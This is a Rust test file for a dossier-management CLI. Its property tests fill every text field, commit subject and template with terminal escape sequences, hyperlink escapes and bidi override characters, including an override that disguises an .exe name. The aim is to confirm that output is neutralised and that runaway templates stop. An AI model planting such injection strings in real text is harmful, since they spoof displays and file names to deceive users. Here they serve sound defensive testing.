    let ws = Workspace::new();
    let base = "slug: porto\nname: {en: Porto}\ncountry: PT\nrelationship: {kind: sister-city, status: active}\n";
    ws.city("porto.yaml", base);
    git(&ws, &["init", "-q"], "Analyst", "2026-11-20T10:00:00");
    git(&ws, &["add", "-A"], "Analyst", "2026-11-20T10:00:00");
    git(
        &ws,
        &["commit", "-q", "-m", "porto"],
        "Analyst",
        "2026-11-20T10:00:00",
    );
    ws.city(
        "porto.yaml",
        format!(
            "{base}notes: {}\n",
            q("see \u{1b}]8;;http://x/\u{7}HERE\u{1b}]8;;\u{7} \u{1b}[2J \u{202e}gnp.exe")
        ),
    );
    let run = run(&ws, &["diff"]);
    run.code(0).stdout_has(r"\e]8;;http://x/\x07HERE");
    assert_inert(&run.stdout, "diff");
}

/// Pieces of hostile text: Latin and Persian letters, ZWNJ and ZWJ, terminal escapes (erase the
/// screen, set the title, open a hyperlink), CR, LF, a C1 CSI, DEL, and every bidi embedding,
/// override and isolate.
const PIECES: &[&str] = &[
    "a",
    "Kazan ",
    "اصفهان",
    "\u{200C}",
    "\u{200D}",
    " ",
    "|",
    "\u{1b}[2J",
    "\u{1b}]0;x\u{7}",
    "\u{1b}]8;;http://x\u{1b}\\",
    "\r",
    "\n",
    "\u{9b}",
    "\u{7f}",
    "\u{202A}",
    "\u{202B}",
    "\u{202C}",
    "\u{202D}",
    "\u{202E}",
    "\u{2066}",
    "\u{2067}",
    "\u{2068}",
    "\u{2069}",
];

/// Hostile text that is never blank (a required field may not be).
fn hostile_text() -> impl Strategy<Value = String> {
    proptest::collection::vec(proptest::sample::select(PIECES), 0..8)
        .prop_map(|pieces| format!("{}x", pieces.concat()))
}

/// Where each text of the property test goes in Kazan's dossier (`«i»` in [`PROP_KAZAN`]), as
/// its place in `city show --format json`.
const PLACES: &[&str] = &[
    "/name/en",
    "/name/fa",
    "/name/local",
    "/relationship/notes",
    "/relationship/sources/0",
    "/representatives/municipality",
    "/representatives/chamber",
    "/joint_chamber",
    "/sectors/0",
    "/facilitators/0/name",
    "/facilitators/0/name_fa",
    "/facilitators/0/expertise/0",
    "/facilitators/0/connection",
    "/facilitators/0/contact/email",
    "/facilitators/0/contact/phone",
    "/contacts/0/name",
    "/contacts/0/organization",
    "/readiness/communication/evidence",
    "/actions/0/title",
    "/actions/1/title",
    "/actions/2/title",
    "/interactions/0/title",
    "/interactions/0/summary",
    "/opportunities/0/title",
    "/opportunities/0/sector",
    "/reviews/0/outcome",
    "/notes",
    "/x-hostile",
];

const PROP_KAZAN: &str = "slug: kazan
name:
  en: «0»
  fa: «1»
  local: «2»
country: RU
relationship:
  kind: sister-city
  status: active
  signed: 2016
  notes: «3»
  sources: [«4»]
representatives:
  municipality: «5»
  chamber: «6»
joint_chamber: «7»
sectors: [«8»]
facilitators:
  - id: ali
    name: «9»
    name_fa: «10»
    languages: [ru]
    expertise: [«11»]
    connection: «12»
    status: active
    contact:
      email: «13»
      phone: «14»
contacts:
  - id: c-one
    name: «15»
    role: embassy-counsellor
    organization: «16»
readiness:
  communication:
    status: partial
    evidence: «17»
    assessed: 2026-11-20
actions:
  - id: a-late
    title: «18»
    owner: joint
    due: 2026-10-01
    status: open
  - id: a-soon
    title: «19»
    owner: municipality
    due: 2026-12-01
    status: in-progress
  - id: a-done
    title: «20»
    owner: chamber
    due: 2026-11-20
    status: done
    done: 2026-11-23
interactions:
  - date: 2026-11-24
    kind: call
    title: «21»
    with: [ali, c-one]
    summary: «22»
opportunities:
  - id: o-show
    title: «23»
    sector: «24»
    stage: exploring
    lead: chamber
reviews:
  - date: 2026-11-10
    participants: [ali]
    outcome: «25»
notes: «26»
x-hostile: «27»
";

/// `text` as a YAML double-quoted scalar whose every control, bidi control, ZWNJ and ZWJ is
/// written as a `\\u` escape, so that the file itself is plain printable YAML.
fn yaml_quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control()
                || matches!(c, '\u{200C}' | '\u{200D}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') =>
            {
                out.push_str(&format!("\\u{:04X}", u32::from(c)));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Runs `args` with no terminal width (a table is never wrapped, which could part a balanced
/// pair of bidi controls over two lines), checks the exit code and that nothing was warned of.
fn run_wide(ws: &Workspace, args: &[&str]) -> Run {
    let mut cmd = ws.cmd(args);
    cmd.env_remove("COLUMNS");
    let run = Run::of(args.join(" "), &mut cmd);
    run.code(if args.contains(&"check") { 1 } else { 0 })
        .stderr_empty();
    run
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 24,
        failure_persistence: None,
        max_shrink_iters: 32,
        ..ProptestConfig::default()
    })]

    /// Random control, escape and bidi characters in every text field of a dossier, in a city
    /// name and a commit subject, through every read command in every format meant for people:
    /// nothing reaches the terminal raw. JSON keeps every text exactly.
    #[test]
    fn no_control_character_reaches_the_terminal(
        texts in proptest::collection::vec(hostile_text(), PLACES.len() + 2),
        persian in any::<bool>(),
    ) {
        let mut kazan = PROP_KAZAN.to_owned();
        // Highest first, so that «1» does not match inside «10».
        for (i, text) in texts.iter().enumerate().take(PLACES.len()).rev() {
            kazan = kazan.replace(&format!("«{i}»"), &yaml_quoted(text));
        }
        let (porto, subject) = (&texts[PLACES.len()], &texts[PLACES.len() + 1]);
        let ws = Workspace::new();
        let date = "2026-11-22T10:00:00";
        git(&ws, &["init", "-q"], "Analyst", date);
        ws.city("kazan.yaml", &kazan).city(
            "porto.yaml",
            format!(
                "slug: porto\nname: {{en: {}}}\ncountry: PT\nrelationship: {{kind: friendship, status: active}}\n",
                yaml_quoted(porto)
            ),
        );
        commit(&ws, &["cities/kazan.yaml", "cities/porto.yaml"], "Analyst", date, subject);

        let lang: &[&str] = if persian { &["--lang", "fa"] } else { &["--lang", "en"] };
        let mut commands: Vec<Vec<&str>> = Vec::new();
        for format in ["table", "markdown"] {
            for args in [
                &["city", "list"][..],
                &["city", "show", "kazan", "--contacts"],
                &["city", "show", "porto"],
                &["facilitator", "list", "--contacts"],
                &["facilitator", "list", "--gaps"],
                &["action", "list", "--all"],
                &["check"],
                &["summary"],
            ] {
                commands.push([lang, &["--format", format], args].concat());
            }
        }
        for format in ["markdown", "html"] {
            for args in [
                &["report", "weekly"][..],
                &["report", "roadmap"],
                &["report", "review", "kazan", "--include-contacts"],
            ] {
                commands.push([lang, &["--format", format], args].concat());
            }
        }
        for args in &commands {
            assert_inert(&run_wide(&ws, args).stdout, &args.join(" "));
        }

        let json = run_wide(&ws, &["city", "show", "kazan", "--contacts", "--format", "json"]).json();
        for (place, text) in PLACES.iter().zip(&texts) {
            prop_assert_eq!(json.pointer(place).and_then(|v| v.as_str()), Some(text.as_str()), "{}", place);
        }
        let rows = run_wide(&ws, &["city", "list", "--format", "json"]).json();
        prop_assert_eq!(rows[1]["name"]["en"].as_str(), Some(porto.as_str()));
        let actions = run_wide(&ws, &["action", "list", "--all", "--format", "json"]).json();
        let titles: BTreeSet<&str> = actions.as_array().into_iter().flatten().filter_map(|a| a["title"].as_str()).collect();
        prop_assert_eq!(titles, texts[18..=20].iter().map(String::as_str).collect::<BTreeSet<_>>());
    }
}

/// What a workspace's template writes itself, `| safe` values and character references the
/// HTML page decodes are shown escaped too: no report holds a raw control character.
#[test]
fn a_template_cannot_send_controls_either() {
    let ws = hostile();
    ws.file(
        "templates/review.md.j2",
        "# {{ slug }} \u{1b}[2J\n\n{{ '\u{1b}]0;title\u{7}' | safe }} &#x1b;[2J &#x202E;rtl `&#27;`\n",
    );
    for format in ["markdown", "html"] {
        let report = run(&ws, &["--format", format, "report", "review", "kazan"]);
        assert_inert(&report.stdout, format);
        report
            .stdout_has(r"kazan \e[2J")
            .stdout_has(r"\e]0;title\x07");
    }
    let html = run(&ws, &["--format", "html", "report", "review", "kazan"]);
    html.stdout_has(r"\e[2J \u{202e}rtl <code>&amp;#27;</code>");
}

// ---------------------------------------------------------------------------------------------
// Templates

/// A workspace's template that would loop for hours stops after a fixed budget, with an error
/// that names the template and the line; so does one given with `--template`.
#[test]
fn a_template_that_never_ends_runs_out_of_its_budget() {
    let ws = Workspace::with(&[("kazan.yaml", KAZAN)]);
    let endless = "# Week\n{% for i in range(100000) %}{% for j in range(100000) %}{{ i }}{% endfor %}{% endfor %}\n";
    ws.file("templates/weekly.md.j2", endless);
    ws.file("loop.md.j2", endless);
    for (args, name) in [
        (&["report", "weekly"][..], "`templates/weekly.md.j2`"),
        (
            &["report", "review", "kazan", "--template", "loop.md.j2"],
            "`loop.md.j2`",
        ),
    ] {
        let mut cmd = ws.cmd(args);
        // A budget that does not stop the loop fails the test instead of hanging it; generous,
        // since the budget takes seconds on a loaded two-core machine.
        cmd.timeout(Duration::from_secs(180));
        let run = Run::of(args.join(" "), &mut cmd);
        run.code(2)
            .stderr_has(&format!("{name}: the template ran out of its budget"))
            .stderr_has("at line 2");
        assert!(run.stdout.is_empty(), "{run}");
    }
}
